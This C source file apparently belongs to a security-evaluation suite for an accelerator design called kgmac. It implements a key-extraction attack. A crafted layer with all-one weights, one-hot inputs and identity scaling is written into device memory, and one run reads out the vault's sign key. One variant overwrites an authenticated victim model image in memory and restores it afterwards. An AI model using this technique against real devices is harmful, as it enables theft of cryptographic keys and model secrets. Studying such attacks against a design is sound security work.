/*
 * sign-oracle, crafted settings: the attacker writes an FC layer himself,
 * straight into device memory, and runs it on a device whose vault holds
 * the victim's keys (kgmac/raw.h: no driver check stands in the way; only
 * the device decides). The layer has K = R, N = C, every weight 1 and
 * identity requantization (mult 2^30, shift 30); run on the R one-hot inputs
 * e_r in one batch, its outputs are y[r][c] = key(r, c) ? -1 : +1, so one
 * run reads every bit of the sign key the device applied.
 *
 *  - own:   the layer and its weights live in the attacker's own memory,
 *           unencrypted, SIGN set.
 *  - image: the victim's model is loaded and authenticated; the attacker
 *           finds its image in device memory (he has the file, so he knows
 *           its first bytes), overwrites the first weight tile and the first
 *           C parameter records with his own, and runs his layer at the
 *           image's weight offset with the model's crypt mode. This is the
 *           attacker who rewrites device memory after VERIFY
 *           (docs/spec.md 11.1). He restores the bytes afterwards.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "attack_internal.h"
#include "kg_fw.h"
#include "kgmac/kg_regs.h"
#include "kgmac/layer_pack.h"
#include "kgmac/raw.h"

/* Where the crafted layer's pieces go in device memory. */
typedef struct craft_layout {
  uint64_t base;          /* attacker's region */
  uint64_t desc, in, out; /* descriptor, R one-hot rows, R output rows */
  uint64_t w, p;          /* weights and parameters (own setting) */
  uint32_t in_stride, out_stride, wbytes, pbytes;
  uint64_t size;
} craft_layout;

static void layout_of(uint32_t R, uint32_t C, craft_layout *l) {
  const kg_geom g = {R, C};
  l->in_stride = (uint32_t)kg_pack_act_stride(R);
  l->out_stride = (uint32_t)kg_pack_act_stride(C);
  l->wbytes = (uint32_t)kg_pack_weight_bytes(R, C, g);
  l->pbytes = C * KGM_PARAM_SIZE;
  l->desc = 0;
  l->w = 64;
  l->p = l->w + l->wbytes;
  l->in = l->p + l->pbytes;
  l->out = l->in + (uint64_t)R * l->in_stride;
  l->size = l->out + (uint64_t)R * l->out_stride;
}

/* The crafted weights (all 1, packed) and identity parameters. */
static int craft_bytes(uint32_t R, uint32_t C, uint8_t *w, size_t wlen, uint8_t *p, size_t plen) {
  const kg_geom g = {R, C};
  int8_t *W = malloc((size_t)R * C);
  int32_t *mult = malloc(C * sizeof *mult);
  uint8_t *shift = malloc(C);
  int rc = W && mult && shift ? KG_OK : KG_E_NOMEM;
  if (rc == KG_OK) {
    memset(W, 1, (size_t)R * C);
    for (uint32_t c = 0; c < C; c++) {
      mult[c] = 1 << 30;
      shift[c] = 30;
    }
    if (kg_pack_weights(R, C, W, g, w, wlen) != KG_REF_OK ||
        kg_pack_params(C, NULL, mult, shift, p, plen) != KG_REF_OK)
      rc = KG_E_INVAL;
  }
  free(W);
  free(mult);
  free(shift);
  return rc;
}

/* Write the descriptor and inputs, run, and read the key from the signs. */
static int run_and_read(kg_dev *dev, const craft_layout *l, uint32_t R, uint32_t C,
                        uint32_t crypt, uint64_t w_addr, uint64_t p_addr, kga_sign_result *res,
                        char *detail) {
  kg_layer_desc d;
  memset(&d, 0, sizeof d);
  d.op = KG_OP_FC;
  d.crypt = crypt;
  d.sign = 1;
  d.m = R;
  d.k = R;
  d.n = C;
  d.in_addr = (uint32_t)(l->base + l->in);
  d.in_stride = l->in_stride;
  d.out_addr = (uint32_t)(l->base + l->out);
  d.out_stride = l->out_stride;
  d.w_addr = (uint32_t)w_addr;
  d.w_pos = 0;
  d.p_addr = (uint32_t)p_addr;
  uint32_t words[16];
  kg_pack_desc(&d, words);
  uint8_t dbytes[64];
  for (int i = 0; i < 16; i++)
    for (int b = 0; b < 4; b++) dbytes[4 * i + b] = (uint8_t)(words[i] >> (8 * b));
  const size_t insz = (size_t)R * l->in_stride, outsz = (size_t)R * l->out_stride;
  int8_t *in = calloc(insz, 1), *out = malloc(outsz);
  int rc = in && out ? KG_OK : KG_E_NOMEM;
  for (uint32_t r = 0; rc == KG_OK && r < R; r++) in[(size_t)r * l->in_stride + r] = 1;
  if (rc == KG_OK) rc = kg_raw_mem_write(dev, l->base + l->desc, dbytes, sizeof dbytes);
  if (rc == KG_OK) rc = kg_raw_mem_write(dev, l->base + l->in, in, insz);
  uint32_t hw_err = 0;
  if (rc == KG_OK) rc = kg_raw_run(dev, l->base + l->desc, &hw_err);
  if (rc == KG_OK) {
    res->device_runs = 1;
    res->queries = 1;
  }
  if (rc == KG_OK && hw_err != KG_ERR_OK) {
    snprintf(res->reason, sizeof res->reason,
             "the device refused the crafted layer (STATUS.ERR %u: %s); no bit read", hw_err,
             kg_fw_strstatus(kg_fw_map_hw_err(hw_err)));
    goto done;
  }
  if (rc == KG_OK) rc = kg_raw_mem_read(dev, l->base + l->out, out, outsz);
  if (rc != KG_OK) {
    rc = kga_fail(detail, rc, "device access failed: %s (%s)", kg_strerror(rc),
                  kg_last_error(dev));
    goto done;
  }
  uint32_t odd = 0;
  for (uint32_t r = 0; r < R; r++)
    for (uint32_t c = 0; c < C; c++) {
      const int8_t y = out[(size_t)r * l->out_stride + c];
      const uint32_t bit = r * C + c;
      if (y == -1) res->key[bit / 8] |= (uint8_t)(1u << (bit % 8));
      if (y == 1 || y == -1) res->bits_decided++;
      else odd++;
    }
  res->success = odd == 0;
  if (odd)
    snprintf(res->reason, sizeof res->reason,
             "%u of %u outputs were neither +1 nor -1: the weights the device used are not "
             "the ones written", odd, R * C);
  else
    snprintf(res->reason, sizeof res->reason,
             "every bit read from one run of a crafted %ux%u layer (%u one-hot inputs)", R, C, R);
done:
  free(in);
  free(out);
  return rc;
}

static int begin(kg_dev *dev, kga_sign_result *res, uint32_t *R, uint32_t *C, char *detail) {
  memset(res, 0, sizeof *res);
  kg_dev_info info;
  int rc = kg_dev_query(dev, &info);
  if (rc != KG_OK) return kga_fail(detail, rc, "cannot query the device: %s", kg_strerror(rc));
  *R = info.rows;
  *C = info.cols;
  if ((uint64_t)*R * *C > KGA_MAX_SIGN_BITS)
    return kga_fail(detail, KG_E_INVAL, "%ux%u array: more than %u key bits", *R, *C,
                    KGA_MAX_SIGN_BITS);
  res->rows = *R;
  res->cols = *C;
  res->bits = *R * *C;
  return KG_OK;
}

int kga_sign_oracle_crafted(kg_dev *dev, const kga_progress *prog, kga_sign_result *res,
                            char *detail) {
  if (!dev || !res) return kga_fail(detail, KG_E_INVAL, "NULL argument");
  const double t0 = kga_now();
  uint32_t R, C;
  int rc = begin(dev, res, &R, &C, detail);
  if (rc != KG_OK) return rc;
  craft_layout l;
  layout_of(R, C, &l);
  rc = kg_raw_alloc(dev, l.size, &l.base);
  if (rc != KG_OK) return kga_fail(detail, rc, "no device memory for the crafted layer");
  uint8_t *w = malloc(l.wbytes), *p = malloc(l.pbytes);
  rc = w && p ? craft_bytes(R, C, w, l.wbytes, p, l.pbytes) : KG_E_NOMEM;
  if (rc == KG_OK) rc = kg_raw_mem_write(dev, l.base + l.w, w, l.wbytes);
  if (rc == KG_OK) rc = kg_raw_mem_write(dev, l.base + l.p, p, l.pbytes);
  if (rc != KG_OK) {
    rc = kga_fail(detail, rc, "cannot write the crafted layer: %s", kg_strerror(rc));
  } else {
    kga_report(prog, "query", 0, 1);
    rc = run_and_read(dev, &l, R, C, KG_CRYPT_NONE, l.base + l.w, l.base + l.p, res, detail);
    kga_report(prog, "query", 1, 1);
  }
  free(w);
  free(p);
  kg_raw_free(dev, l.base);
  res->seconds = kga_now() - t0;
  return rc;
}

static uint32_t le32(const uint8_t *p) {
  return (uint32_t)p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 24;
}

/* Find the file's image in device memory: the first 16-byte aligned
 * address whose bytes equal the file's header. */
static int find_image(kg_dev *dev, const uint8_t *file, uint64_t dram, uint64_t *at) {
  const size_t chunk = 1u << 20, hdr = KGM_HEADER_SIZE;
  uint8_t *buf = malloc(chunk + hdr);
  if (!buf) return KG_E_NOMEM;
  int rc = KG_E_INVAL;
  for (uint64_t a = 0; a + hdr <= dram && rc == KG_E_INVAL; a += chunk) {
    size_t n = dram - a < chunk + hdr ? (size_t)(dram - a) : chunk + hdr;
    if (kg_raw_mem_read(dev, a, buf, n) != KG_OK) {
      rc = KG_E_DEVICE;
      break;
    }
    for (size_t o = 0; o + hdr <= n && o < chunk; o += 16)
      if (memcmp(buf + o, file, hdr) == 0) {
        *at = a + o;
        rc = KG_OK;
        break;
      }
  }
  free(buf);
  return rc;
}

int kga_sign_oracle_image(kg_dev *dev, const kgm_model *m, const uint8_t *file, size_t file_len,
                          const kga_progress *prog, kga_sign_result *res, char *detail) {
  if (!dev || !m || !file || !res) return kga_fail(detail, KG_E_INVAL, "NULL argument");
  const double t0 = kga_now();
  uint32_t R, C;
  int rc = begin(dev, res, &R, &C, detail);
  if (rc != KG_OK) return rc;
  if (m->rows != R || m->cols != C || file_len < KGM_HEADER_SIZE)
    return kga_fail(detail, KG_E_INVAL, "the file is not for this %ux%u device", R, C);
  craft_layout l;
  layout_of(R, C, &l);
  if (m->wimg_len < l.wbytes || m->params_len < l.pbytes)
    return kga_fail(detail, KG_E_INVAL,
                    "the model's weight image or parameters are smaller than one crafted tile");
  kg_dev_info info;
  kg_dev_query(dev, &info);
  uint64_t img = 0;
  kga_report(prog, "scan", 0, 1);
  rc = find_image(dev, file, info.dram_size, &img);
  kga_report(prog, "scan", 1, 1);
  if (rc != KG_OK)
    return kga_fail(detail, rc, "the victim's model image is not in device memory");
  /* Section offsets from the file's header (docs/model-format.md). */
  const uint64_t w_at = img + le32(file + 80), p_at = img + le32(file + 72);
  rc = kg_raw_alloc(dev, l.size, &l.base);
  if (rc != KG_OK) return kga_fail(detail, rc, "no device memory for the crafted layer");
  uint8_t *w = malloc(l.wbytes), *p = malloc(l.pbytes), *keep_w = malloc(l.wbytes),
          *keep_p = malloc(l.pbytes);
  rc = w && p && keep_w && keep_p ? craft_bytes(R, C, w, l.wbytes, p, l.pbytes) : KG_E_NOMEM;
  if (rc == KG_OK) rc = kg_raw_mem_read(dev, w_at, keep_w, l.wbytes);
  if (rc == KG_OK) rc = kg_raw_mem_read(dev, p_at, keep_p, l.pbytes);
  if (rc == KG_OK) rc = kg_raw_mem_write(dev, w_at, w, l.wbytes);
  if (rc == KG_OK) rc = kg_raw_mem_write(dev, p_at, p, l.pbytes);
  if (rc != KG_OK) {
    rc = kga_fail(detail, rc, "cannot rewrite the image: %s", kg_strerror(rc));
  } else {
    kga_report(prog, "query", 0, 1);
    rc = run_and_read(dev, &l, R, C, m->crypt, w_at, p_at, res, detail);
    kga_report(prog, "query", 1, 1);
    /* Put the victim's bytes back. */
    if (kg_raw_mem_write(dev, w_at, keep_w, l.wbytes) != KG_OK ||
        kg_raw_mem_write(dev, p_at, keep_p, l.pbytes) != KG_OK)
      rc = kga_fail(detail, KG_E_DEVICE, "cannot restore the victim's image");
  }
  free(w);
  free(p);
  free(keep_w);
  free(keep_p);
  kg_raw_free(dev, l.base);
  res->seconds = kga_now() - t0;
  return rc;
}
